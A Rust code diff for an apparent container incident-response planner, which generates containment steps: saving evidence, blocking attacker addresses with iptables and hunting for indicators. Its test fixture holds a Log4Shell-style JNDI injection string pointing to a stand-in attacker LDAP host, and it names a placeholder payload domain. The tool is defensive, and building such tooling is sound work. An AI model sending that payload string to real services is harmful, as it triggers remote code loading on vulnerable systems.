@@ -3,25 +3,13 @@
 //! act on what the findings say, kill last.
 
 use std::collections::{BTreeMap, BTreeSet};
-use std::sync::OnceLock;
 
-use regex::Regex;
-
+use crate::analyze::story::hosts::{HostRecord, Role};
 use crate::evidence::ArtifactKind;
 use crate::model::Finding;
 use crate::report::{BundleReport, ResponseStep};
 
-/// Exposure rules that make an escape to the host likely.
-const ESCAPE_RULES: &[&str] = &[
-    "exposure.privileged",
-    "exposure.runtime-socket",
-    "exposure.host-root-mount",
-    "exposure.host-pid",
-    "exposure.cap-add",
-];
-/// Finding categories whose summaries carry the attacker's addresses (miner findings,
-/// rules ending in `.miner`, carry the pool's).
-const IOC_CATEGORIES: &[&str] = &["initial-access", "command-and-control"];
+use crate::analyze::exposure::ESCAPE_RULES;
 /// Characters of a finding summary quoted in a step's `why`.
 const QUOTE_MAX: usize = 240;
 /// Today's date as the tag of evidence images (evaluated by the responder's shell).
@@ -79,12 +67,16 @@ pub fn plan(report: &BundleReport, findings: &[Finding]) -> Vec<ResponseStep> {
         steps.push(ResponseStep {
             step: format!("Record the host-side network interface of {} (before pausing)", t.name),
             why: format!(
-                "docker exec does not work on a paused container; the number printed is the host ifindex of \
-                 the container's veth (needed to cut it off later); {}",
+                "read from the host through /proc/PID/root, so nothing runs inside the container (no docker \
+                 exec, which also fails once it is paused); the number is the host ifindex of the container's \
+                 veth (needed to cut it off later); {}",
                 answers(&t.name)
             ),
             commands: vec![
-                format!("{}=$(docker exec {n} cat /sys/class/net/eth0/iflink)", iflink_var(&t.name)),
+                format!(
+                    "{}=$(cat \"/proc/$(docker inspect -f '{{{{.State.Pid}}}}' {n})/root/sys/class/net/eth0/iflink\")",
+                    iflink_var(&t.name)
+                ),
                 format!(
                     "nsenter -t \"$(docker inspect -f '{{{{.State.Pid}}}}' {n})\" -n ip -o link show eth0"
                 ),
@@ -200,7 +192,7 @@ pub fn plan(report: &BundleReport, findings: &[Finding]) -> Vec<ResponseStep> {
     }
 
     // 4. What the findings call for.
-    finding_steps(&mut steps, &targets, findings);
+    finding_steps(&mut steps, &targets, findings, report);
 
     // 5. Kill last, once the evidence is safe.
     for t in targets.iter().filter(|t| t.running) {
@@ -213,7 +205,12 @@ pub fn plan(report: &BundleReport, findings: &[Finding]) -> Vec<ResponseStep> {
     steps
 }
 
-fn finding_steps(steps: &mut Vec<ResponseStep>, targets: &[Target], findings: &[Finding]) {
+fn finding_steps(
+    steps: &mut Vec<ResponseStep>,
+    targets: &[Target],
+    findings: &[Finding],
+    report: &BundleReport,
+) {
     let by_rule = |rule: &str| -> Vec<&Finding> { findings.iter().filter(|f| f.rule == rule).collect() };
     let owner = |f: &Finding| f.title.split_once(": ").map(|(n, _)| n.to_string()).unwrap_or_default();
 
@@ -295,54 +292,44 @@ fn finding_steps(steps: &mut Vec<ResponseStep>, targets: &[Target], findings: &[
         });
     }
 
-    // Callbacks of the intrusion, and the pools a miner talks to (egress to block too).
-    let iocs: Vec<&Finding> = findings
-        .iter()
-        .filter(|f| IOC_CATEGORIES.contains(&f.category.as_str()) || f.rule.ends_with(".miner"))
-        .collect();
-    if !iocs.is_empty() {
-        let quoted: Vec<String> =
-            iocs.iter().map(|f| format!("{}: \"{}\"", f.rule, clip(&f.summary))).collect();
-        let (ips, hosts) = indicators(&iocs);
-        let block: Vec<String> = ips
+    // The attacker's addresses (exploit senders, callbacks, payload servers, mining pools),
+    // never the victim's own or a third party's: the story classified every host.
+    let attackers: Vec<&HostRecord> =
+        report.story.hosts.iter().filter(|h| h.role == Role::Attacker).collect();
+    if !attackers.is_empty() {
+        let why: Vec<String> =
+            attackers.iter().map(|h| format!("{}: {}", h.value, clip(&h.reasons.join("; ")))).collect();
+        let block: Vec<String> = attackers
             .iter()
-            .flat_map(|ip| {
+            .filter(|h| h.kind == "ip")
+            .flat_map(|h| {
+                let tool = if h.value.contains(':') { "ip6tables" } else { "iptables" };
                 [
-                    format!("iptables -I DOCKER-USER -d {ip} -j DROP"),
-                    format!("iptables -I DOCKER-USER -s {ip} -j DROP"),
+                    format!("{tool} -I DOCKER-USER -d {} -j DROP", h.value),
+                    format!("{tool} -I DOCKER-USER -s {} -j DROP", h.value),
                 ]
             })
             .collect();
-        let names = if hosts.is_empty() {
+        let names: Vec<&str> =
+            attackers.iter().filter(|h| h.kind == "domain").map(|h| h.value.as_str()).collect();
+        let names = if names.is_empty() {
             String::new()
         } else {
-            let list: Vec<&str> = hosts.iter().map(String::as_str).collect();
-            format!("; block these host names at the DNS resolver or egress proxy: {}", list.join(", "))
+            format!("; block these host names at the DNS resolver or egress proxy: {}", names.join(", "))
         };
         steps.push(ResponseStep {
-            step: "Block the attacker's callback addresses".into(),
-            why: format!("the findings name them: {}{names}", quoted.join("; ")),
+            step: "Block the attacker's addresses".into(),
+            why: format!(
+                "attacker-side only (the container's own addresses, the servers the requests named and loopback are never blocked): {}{names}",
+                why.join("; ")
+            ),
             commands: block,
         });
-        let all: Vec<&String> = ips.iter().chain(hosts.iter()).collect();
-        let hunt = if all.is_empty() {
-            vec![]
-        } else {
-            let pats: String = all.iter().map(|i| format!(" -e {}", q(i))).collect();
-            vec![format!("grep -rIlF{pats} /var/lib/docker/containers /var/log")]
-        };
+        let pats: String = attackers.iter().map(|h| format!(" -e {}", q(&h.value))).collect();
         steps.push(ResponseStep {
             step: "Hunt for the same indicators on other hosts and containers".into(),
-            why: format!(
-                "the same exploit is usually sprayed at every exposed host ({})",
-                iocs.iter()
-                    .map(|f| f.rule.as_str())
-                    .collect::<BTreeSet<_>>()
-                    .into_iter()
-                    .collect::<Vec<_>>()
-                    .join(", ")
-            ),
-            commands: hunt,
+            why: "the same exploit is usually sprayed at every exposed host, and the same infrastructure serves every victim".into(),
+            commands: vec![format!("grep -rIlF{pats} /var/lib/docker/containers /var/log")],
         });
     }
 }
@@ -428,38 +415,6 @@ fn secret_names(summary: &str) -> String {
     summary.split_once("): ").map(|(_, r)| r).unwrap_or(summary).split(';').next().unwrap_or("").to_string()
 }
 
-/// IPv4 addresses and host names in the findings' text, sorted and deduplicated.
-fn indicators(findings: &[&Finding]) -> (BTreeSet<String>, BTreeSet<String>) {
-    static IP: OnceLock<Regex> = OnceLock::new();
-    static HOST: OnceLock<Regex> = OnceLock::new();
-    let ip = IP.get_or_init(|| Regex::new(r"\b(?:\d{1,3}\.){3}\d{1,3}\b").expect("static regex"));
-    let host = HOST.get_or_init(|| {
-        Regex::new(r"(?i)\b(?:ldaps?|rmi|dns|iiop|corba|nis|nds|https?|tcp|udp|stratum\+tcp|stratum\+ssl)://([a-z0-9][a-z0-9.-]*[a-z0-9])")
-            .expect("static regex")
-    });
-    let mut ips = BTreeSet::new();
-    let mut hosts = BTreeSet::new();
-    for f in findings {
-        for text in [&f.title, &f.summary] {
-            for m in ip.find_iter(text) {
-                let ok = m.as_str().split('.').all(|o| o.parse::<u8>().is_ok());
-                if ok && !m.as_str().starts_with("127.") && !m.as_str().starts_with("0.") {
-                    ips.insert(m.as_str().to_string());
-                }
-            }
-            for c in host.captures_iter(text) {
-                if let Some(h) = c.get(1) {
-                    let h = h.as_str().to_ascii_lowercase();
-                    if !ips.contains(&h) && h.parse::<std::net::Ipv4Addr>().is_err() && h != "localhost" {
-                        hosts.insert(h);
-                    }
-                }
-            }
-        }
-    }
-    (ips, hosts)
-}
-
 #[cfg(test)]
 mod tests {
     use super::*;
@@ -517,6 +472,26 @@ mod tests {
         b.containers = doc.containers;
         let mut findings = crate::analyze::exposure::audit(&b.containers);
         findings.push(jndi());
+        let host = |value: &str, kind, role, why: &str| HostRecord {
+            value: value.into(),
+            kind,
+            role,
+            reasons: vec![why.into()],
+            first_seen: None,
+            last_seen: None,
+            evidence: vec![],
+        };
+        b.story.hosts = vec![
+            host(
+                "198.51.100.7",
+                "ip",
+                Role::Attacker,
+                "sent a JNDI request ${jndi:ldap://198.51.100.7:1389/Exploit}",
+            ),
+            host("evil.example.com", "domain", Role::Attacker, "served a payload"),
+            host("172.17.0.5", "ip", Role::Victim, "IP address of container web"),
+            host("192.0.2.9", "ip", Role::Unknown, "named in a log"),
+        ];
         let plan = plan(&b, &findings);
         let steps: Vec<&str> = plan.iter().map(|s| s.step.as_str()).collect();
         assert_eq!(
@@ -532,14 +507,21 @@ mod tests {
                 "Take web's host-side veth down",
                 "Check the host and every other container: an escape is likely",
                 "Rotate the secrets in web's environment: DB_PASSWORD, API_TOKEN",
-                "Block the attacker's callback addresses",
+                "Block the attacker's addresses",
                 "Hunt for the same indicators on other hosts and containers",
                 "Kill web once its evidence is saved",
             ]
         );
         let cmds = |i: usize| plan[i].commands.join("\n");
         assert_eq!(cmds(1), "docker pause web");
-        assert!(cmds(0).starts_with("IFLINK_web=$(docker exec web cat /sys/class/net/eth0/iflink)"));
+        assert_eq!(
+            cmds(0).lines().next().unwrap(),
+            "IFLINK_web=$(cat \"/proc/$(docker inspect -f '{{.State.Pid}}' web)/root/sys/class/net/eth0/iflink\")"
+        );
+        assert!(
+            !plan.iter().flat_map(|s| &s.commands).any(|c| c.contains("docker exec")),
+            "nothing runs inside"
+        );
         assert!(cmds(7).starts_with("ip -o link | grep \"^${IFLINK_web}:\""), "{}", cmds(7));
         assert!(cmds(4).starts_with(
             "docker commit 4f2a9c1be0d3aa55e0f1c2d3b4a59687 ctriage-evidence/web:$(date -u +%Y%m%d)"
@@ -547,6 +529,11 @@ mod tests {
         assert!(cmds(5).contains("docker top web -eo pid,ppid,user,lstart,args > web.top.txt"));
         assert_eq!(cmds(6), "docker network disconnect backend web\ndocker network disconnect bridge web");
         assert!(cmds(10).contains("iptables -I DOCKER-USER -d 198.51.100.7 -j DROP"), "{}", cmds(10));
+        assert!(
+            !cmds(10).contains("172.17.0.5") && !cmds(10).contains("192.0.2.9"),
+            "only attacker-side: {}",
+            cmds(10)
+        );
         assert!(plan[10].why.ends_with("egress proxy: evil.example.com"), "{}", plan[10].why);
         assert!(plan[10].why.contains("${jndi:ldap://198.51.100.7:1389/Exploit}"));
         assert!(cmds(11).contains("-e 198.51.100.7 -e evil.example.com"), "{}", cmds(11));
